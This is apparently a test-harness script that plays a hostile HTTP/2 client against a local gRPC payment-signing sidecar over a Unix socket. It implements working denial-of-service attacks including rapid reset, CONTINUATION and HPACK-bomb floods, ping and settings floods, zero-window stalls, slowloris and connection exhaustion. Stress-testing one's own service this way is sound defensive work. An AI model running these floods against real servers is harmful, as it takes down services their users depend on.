"""What a hostile client sends over HTTP/2. One attack for so many seconds, then a line of JSON about what was sent.

Usage: attacks.py ATTACK SOCKET SECONDS CONNECTIONS USER    (USER: whose number it takes on, as root)
"""

import json
import os
import random
import resource
import socket
import struct
import sys
import time

import hpack
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/pursekeeper.v1.Signer/SignPayment"
# A gRPC message of no bytes.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"

sent = {"connections": 0, "frames": 0, "closed": 0}


class Gone(Exception):
    """The sidecar closed the connection, or did not take it."""


class Wire:
    """A connection on which frames are written as they are."""

    def __init__(self, path, settings=None, greet=True):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.settimeout(5)
        try:
            self.socket.connect(path)
        except OSError as error:
            raise Gone from error
        sent["connections"] += 1
        if greet:
            self.write(PREFACE + SettingsFrame(settings=settings or {}).serialize())

    def write(self, data):
        try:
            self.socket.sendall(data)
        except OSError as error:
            sent["closed"] += 1
            self.close()
            raise Gone from error

    def frames(self, frames):
        self.write(b"".join(frame.serialize() for frame in frames))
        sent["frames"] += len(frames)

    def drain(self):
        """Reads what was answered, without waiting."""
        self.socket.setblocking(False)
        try:
            while self.socket.recv(65536):
                pass
        except BlockingIOError:
            pass
        except OSError as error:
            raise Gone from error
        else:
            sent["closed"] += 1
            raise Gone
        finally:
            self.socket.settimeout(5)

    def close(self):
        self.socket.close()


def call_headers(encoder, *more):
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", METHOD),
            (":authority", "pursekeeper"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("pursekeeper", "1"),
            *more,
        ]
    )


def call(stream, block, end=True):
    frame = HeadersFrame(stream, data=block)
    frame.flags.add("END_HEADERS")
    if end:
        frame.flags.add("END_STREAM")
    return frame


def streams():
    stream = 1
    while stream < 2**31 - 2:
        yield stream
        stream += 2


def rapid_reset(wire):
    encoder = hpack.Encoder()
    for stream in streams():
        wire.frames([call(stream, call_headers(encoder), end=False), RstStreamFrame(stream, error_code=8)])
        if stream % 512 == 1:
            wire.drain()
        yield


def continuation(wire):
    block = call_headers(hpack.Encoder(), *((f"x-{at}", "y" * 100) for at in range(4)))
    wire.frames([HeadersFrame(1, data=block)])
    while True:
        wire.frames([ContinuationFrame(1, data=b"\x00\x03x-z\x40" + b"z" * 64) for _ in range(64)])
        wire.drain()
        yield


def again_and_again(frames, first=None, reads=True):
    """An attack that sends the same frames for ever, after others that open a stream."""

    def attack(wire):
        if first:
            wire.frames(first())
        same = frames()
        while True:
            wire.frames(same)
            if reads:
                wire.drain()
            yield

    return attack


def opened(end_headers):
    frame = HeadersFrame(1, data=call_headers(hpack.Encoder()))
    if end_headers:
        frame.flags.add("END_HEADERS")
    return [frame]


def pings():
    return [PingFrame(0, opaque_data=b"pursekee") for _ in range(256)]


def hpack_bomb(wire):
    encoder = hpack.Encoder()
    value = "b" * 3900
    wire.frames([call(1, call_headers(encoder, ("bomb", value)))])
    # The largest entry of the table, named again by one byte each.
    bomb = encoder.encode([("bomb", value)])
    for stream in streams():
        if stream == 1:
            continue
        wire.frames([call(stream, call_headers(encoder) + bomb * 8000)])
        wire.drain()
        yield


def zero_window(wire):
    wire.frames([SettingsFrame(settings={4: 0})])
    encoder = hpack.Encoder()
    for stream in streams():
        data = DataFrame(stream, data=EMPTY_MESSAGE)
        data.flags.add("END_STREAM")
        wire.frames([call(stream, call_headers(encoder), end=False), data])
        wire.drain()
        yield


def huge_message(wire):
    encoder = hpack.Encoder()
    for stream in streams():
        message = b"\x00" + struct.pack(">I", 2**32 - 1) + b"m" * 1000
        wire.frames([call(stream, call_headers(encoder), end=False), DataFrame(stream, data=message)])
        wire.drain()
        yield


def garbage(wire):
    while True:
        wire.write(random.randbytes(4096))
        wire.drain()
        yield


def calls(wire):
    """Nothing is wrong with these, but that there are so many."""
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    wire.write(connection.data_to_send())
    while True:
        for _ in range(120):
            try:
                stream = connection.get_next_available_stream_id()
                connection.send_headers(
                    stream,
                    [
                        (":method", "POST"),
                        (":scheme", "http"),
                        (":path", METHOD),
                        (":authority", "pursekeeper"),
                        ("content-type", "application/grpc"),
                        ("te", "trailers"),
                        ("pursekeeper", "1"),
                    ],
                )
                connection.send_data(stream, EMPTY_MESSAGE, end_stream=True)
            except ProtocolError:
                break
            sent["frames"] += 2
        wire.write(connection.data_to_send())
        try:
            data = wire.socket.recv(65536)
        except OSError as error:
            raise Gone from error
        if not data:
            sent["closed"] += 1
            raise Gone
        try:
            connection.receive_data(data)
        except ProtocolError as error:
            raise Gone from error
        yield


def one_after_the_other(attack, path, until, greet=True):
    while time.monotonic() < until:
        try:
            wire = Wire(path, greet=greet)
            for _ in attack(wire):
                if time.monotonic() >= until:
                    return
        except Gone:
            # It is back at once, as an attacker is.
            time.sleep(0.001)


def slowloris(path, until, most):
    """As many as there is room for, each saying a little now and then."""
    block = call_headers(hpack.Encoder())
    whole = PREFACE + SettingsFrame().serialize() + call(1, block, end=False).serialize()
    wires = []
    while time.monotonic() < until:
        for _ in range(max(0, min(50, most - len(wires)))):
            try:
                wires.append([Wire(path, greet=False), 0])
            except Gone:
                break
        kept = []
        for wire, said in wires:
            try:
                wire.drain()
                wire.write(whole[said : said + 1] or b"\x00")
                kept.append([wire, said + 1])
            except Gone:
                wire.close()
        sent["closed"] += len(wires) - len(kept)
        wires = kept
        time.sleep(0.1)


def connections(path, until, most):
    """So many at once, and whatever is closed is opened again."""
    wires = []
    while time.monotonic() < until:
        while len(wires) < most and time.monotonic() < until:
            try:
                wires.append(Wire(path))
            except Gone:
                break
        for wire in wires:
            try:
                wire.drain()
            except Gone:
                wire.close()
        wires = [wire for wire in wires if wire.socket.fileno() >= 0]
        time.sleep(0.01)


ONE_AFTER_THE_OTHER = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "empty-continuation": again_and_again(
        lambda: [ContinuationFrame(1, data=b"") for _ in range(256)], first=lambda: opened(end_headers=False)
    ),
    "ping": again_and_again(pings, reads=False),
    "ping-and-read": again_and_again(pings),
    "settings": again_and_again(lambda: [SettingsFrame(settings={1: at, 4: 65535}) for at in range(256)]),
    "priority": again_and_again(lambda: [PriorityFrame(at, stream_weight=1) for at in range(1, 512, 2)]),
    "window-update": again_and_again(lambda: [WindowUpdateFrame(0, window_increment=1) for _ in range(256)]),
    "hpack-bomb": hpack_bomb,
    "zero-window": zero_window,
    "empty-data": again_and_again(
        lambda: [DataFrame(1, data=b"") for _ in range(256)], first=lambda: opened(end_headers=True)
    ),
    "huge-message": huge_message,
    "garbage": garbage,
    "calls": calls,
}


def main(name, path, seconds, most, user):
    most, user = int(most), int(user)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, most + 1000), hard))
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    until = time.monotonic() + float(seconds)
    if name == "slowloris":
        slowloris(path, until, most)
    elif name == "connections":
        connections(path, until, most)
    else:
        # These greet themselves.
        one_after_the_other(ONE_AFTER_THE_OTHER[name], path, until, greet=name != "calls")
    print(json.dumps(sent))


if __name__ == "__main__":
    main(*sys.argv[1:])
